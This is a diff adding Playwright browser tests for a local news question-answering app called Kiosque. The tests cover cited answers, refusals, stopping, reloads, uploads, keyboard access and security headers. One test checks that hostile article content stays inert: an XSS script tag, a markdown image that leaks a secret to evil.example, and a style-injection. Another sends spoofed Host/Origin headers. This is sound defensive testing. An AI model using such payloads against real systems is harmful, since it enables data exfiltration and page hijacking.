@@ -1,0 +1,200 @@
+"""The page in a real Chromium, over a fake Kiosque: what it looks like, what it sends, what it survives."""
+
+from __future__ import annotations
+
+import contextlib
+import signal
+import subprocess
+from http.client import HTTPConnection
+from pathlib import Path
+
+import pytest
+from driving import Picture, Serve, Served, Visit, ask, assert_fits
+from fakes_kiosque import FERRY, HOSTILE
+from playwright.sync_api import expect
+
+from rag.interface.words import say
+from rag.records import Language
+
+pytestmark = pytest.mark.browser
+
+QUESTION = "Combien de blessés dans l’accident du ferry au quai de Harrowmouth ?"
+
+
+@pytest.mark.parametrize(
+    ("width", "scheme", "language"),
+    [(1280, "light", "fr"), (360, "dark", "en")],
+    ids=["desk, light, French", "phone, dark, English"],
+)
+def test_a_question_is_answered_with_its_source(
+    width: int, scheme: str, language: Language, server: Served, visit: Visit, picture
+) -> None:
+    watched = visit(f"{server.address}/?lang={language}", width=width, scheme=scheme)
+    page, name = watched.page, f"{language}-{width}"
+    expect(page.get_by_text(say("chat.title", language))).to_be_visible()
+    picture(page, f"{name}-1-welcome")
+    ask(page, QUESTION)
+    expect(page.locator(".k-evidence")).to_contain_text("L’accident a fait 12 blessés")
+    assert page.locator(".k-draft").count() == 0, "what was found shows before the model's words"
+    expect(page.get_by_role("status").filter(has_text=say("phase.reading", language))).to_be_visible()
+    expect(page.locator(".k-words")).to_contain_text("Aurore-du-Large")
+    picture(page, f"{name}-2-writing")
+    expect(page.locator("mark")).to_have_text(
+        "Le ferry Aurore-du-Large a heurté lundi le quai des Pilotes de Harrowmouth."
+    )
+    expect(page.locator(".k-doubts")).to_contain_text("n’est pas dans la phrase citée")
+    picture(page, f"{name}-3-answer")
+    page.locator(".k-marker").first.click()
+    expect(page.locator("li:target")).to_contain_text("La Gazette de Port-Évrain")
+    assert_fits(page)
+    ask(page, "Quel est le prix du baril de pétrole ?")
+    expect(page.locator(".k-refusal")).to_be_visible()
+    expect(page.get_by_text(say("answer.nearest", language))).to_be_visible()
+    picture(page, f"{name}-4-no-answer")
+    watched.assert_quiet()
+
+
+def test_hostile_text_stays_text(server: Served, visit: Visit, picture: Picture) -> None:
+    watched = visit(server.address, width=360)
+    page = watched.page
+    ask(page, "hameçon page hostile ?")
+    expect(page.locator("mark")).to_contain_text(
+        "<script>alert(1)</script> ![pixel](http://evil.example/p.png?d=secret)"
+    )
+    picture(page, "hostile-360-answer")
+    assert_fits(page)
+    page.goto(f"{server.address}/library")
+    title = page.locator(".st-key-rows button").filter(has_text="onerror")
+    expect(title).to_be_visible()
+    assert title.inner_text().replace("\u2060", "") == HOSTILE.title
+    picture(page, "hostile-360-library")
+    title.click()
+    expect(page.locator(".k-headline")).to_have_text(HOSTILE.title)
+    expect(page.locator(".k-text")).to_contain_text("<style>body{display:none}</style> &lt;img src=y&gt;")
+    assert page.locator(".k-text, .k-headline, .k-meta").locator("script, img, iframe, style, b, u, i, a").count() == 0
+    assert_fits(page)
+    watched.assert_quiet()
+
+
+def test_the_server_is_this_machine_alone_and_says_so(server: Served, visit: Visit) -> None:
+    assert server.first_line.startswith(f"Kiosque est prêt : {server.address}".replace(" :", "\u00a0:"))
+    watched = visit(server.address)
+    with watched.page.expect_response(server.address + "/") as response:
+        watched.page.reload()
+    headers = response.value.headers
+    assert "img-src 'self' data: blob:" in headers["content-security-policy"]
+    assert headers["referrer-policy"] == "no-referrer" and headers["x-content-type-options"] == "nosniff"
+    for spoofed in ({"Host": "evil.example"}, {"Origin": "http://evil.example"}, {"Origin": "http://127.0.0.1:1"}):
+        for path in ("/", "/_stcore/stream", "/_stcore/upload_file/a/b"):
+            assert status(server, path, spoofed) == 403, (spoofed, path)
+    listening = subprocess.run(["ss", "-ltnH"], capture_output=True, text=True, check=False).stdout
+    assert not listening or f"127.0.0.1:{server.port}" in listening and f"0.0.0.0:{server.port}" not in listening
+
+
+def status(server: Served, path: str, headers: dict[str, str]) -> int:
+    connection = HTTPConnection("127.0.0.1", server.port, timeout=5)
+    upgrade = {"Connection": "Upgrade", "Upgrade": "websocket", "Sec-WebSocket-Version": "13"}
+    with contextlib.closing(connection):
+        key = {"Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ=="}
+        connection.request("GET", path, headers={**(upgrade | key if "stream" in path else {}), **headers})
+        return connection.getresponse().status
+
+
+@pytest.fixture(scope="module")
+def slow(serve: Serve) -> Served:
+    return serve(reading=4, piece=0.8)
+
+
+STOPWATCH = """
+() => { const stop = [...document.querySelectorAll('button')].find(one => one.innerText.includes('Arrêter'));
+  window.stopped = new Promise(done => {
+    stop.addEventListener('click', () => { window.clicked = performance.now(); });
+    new MutationObserver(() => document.querySelector('.k-partial') && done(performance.now() - window.clicked))
+      .observe(document.body, { childList: true, subtree: true }); });
+  stop.click(); return window.stopped; }
+"""
+"""Presses Stop and gives the milliseconds until the stopped answer is on the page, by the page's own clock."""
+
+
+@pytest.mark.parametrize("when", ["reading", "writing"])
+def test_stop_works_within_a_second(when: str, slow: Served, visit: Visit) -> None:
+    page = visit(slow.address).page
+    ask(page, QUESTION)
+    expect(page.locator(".k-evidence" if when == "reading" else ".k-words")).to_be_visible()
+    assert page.evaluate(STOPWATCH) < 1000
+    expect(page.get_by_test_id("stChatInputTextArea")).to_be_enabled()
+
+
+def test_a_reload_in_mid_answer_loses_nothing(server: Served, visit: Visit) -> None:
+    watched = visit(server.address)
+    page = watched.page
+    ask(page, QUESTION)
+    expect(page.locator(".k-words")).to_contain_text("Aurore")
+    page.reload()
+    expect(page.locator(".k-claims")).to_contain_text("400 témoins")
+    expect(page.locator(".k-question")).to_have_text(QUESTION)
+    page.get_by_role("button", name=say("chat.new", "fr")).click()
+    expect(page.locator(".k-question")).to_have_count(0)
+    page.get_by_role("button", name="Combien de blessés").first.click()
+    expect(page.locator(".k-claims")).to_contain_text("400 témoins")
+    watched.assert_quiet()
+
+
+def test_files_are_dropped_and_articles_removed(serve: Serve, visit: Visit, picture: Picture, tmp_path: Path) -> None:
+    watched = visit(f"{serve(language='en').address}/library")
+    page = watched.page
+    names = {"good.txt": "Une brève\nLe marché ouvre samedi.", "bad.txt": "panne"}
+    for name, text in names.items():
+        (tmp_path / name).write_text(text, "utf-8")
+    page.get_by_text(say("library.add", "en")).click()
+    page.locator("input[type=file]").set_input_files([tmp_path / name for name in names])
+    expect(page.get_by_text("good.txt")).to_be_visible()
+    page.get_by_role("button", name=say("library.submit", "en"), exact=True).click()
+    expect(page.locator(".k-failed")).to_contain_text("refused")
+    expect(page.locator(".k-added")).to_contain_text("Une brève")
+    picture(page, "en-1280-5-added")
+    page.locator(".st-key-rows button").filter(has_text="12 blessés").click()
+    page.get_by_role("button", name=say("article.summarise", "en")).click()
+    expect(page.locator(".k-pair")).to_contain_text("In short: Le ferry")
+    picture(page, "en-1280-6-article")
+    page.get_by_text(say("article.remove", "en")).click()
+    page.get_by_role("button", name=say("yes", "en")).click()
+    expect(page.locator(".st-key-rows")).to_contain_text("Une brève")
+    expect(page.locator(".st-key-rows")).not_to_contain_text(FERRY.source or "")
+    watched.assert_quiet()
+
+
+@pytest.fixture(scope="module")
+def without_model(serve: Serve) -> Served:
+    return serve(missing=True, language="en")
+
+
+def test_without_a_model_the_page_says_what_to_do(without_model: Served, visit: Visit, picture: Picture) -> None:
+    watched = visit(without_model.address)
+    page = watched.page
+    expect(page.get_by_role("alert")).to_contain_text("python -m rag models pull qwen-mini")
+    ask(page, QUESTION)
+    expect(page.get_by_text(FERRY.title).first).to_be_visible()
+    picture(page, "en-1280-7-no-model")
+    watched.assert_quiet()
+
+
+def test_the_keyboard_is_enough(server: Served, visit: Visit) -> None:
+    page = visit(server.address).page
+    expect(page.get_by_test_id("stChatInputTextArea")).to_be_visible()
+    reached = []
+    for _ in range(12):
+        page.keyboard.press("Tab")
+        reached.append(
+            page.evaluate("getComputedStyle(document.activeElement).outlineStyle + document.activeElement.tagName")
+        )
+    assert "solidBUTTON" in reached and "solidA" in reached
+
+
+def test_ctrl_c_ends_it_cleanly(without_model: Served, visit: Visit) -> None:
+    expect(visit(without_model.address).page.get_by_test_id("stChatInputTextArea")).to_be_visible()
+    without_model.process.send_signal(signal.SIGINT)
+    output, _ = without_model.process.communicate(timeout=10)
+    assert without_model.first_line.startswith("Kiosque is ready: http://127.0.0.1:")
+    assert without_model.process.returncode == 130
+    assert "Traceback" not in output
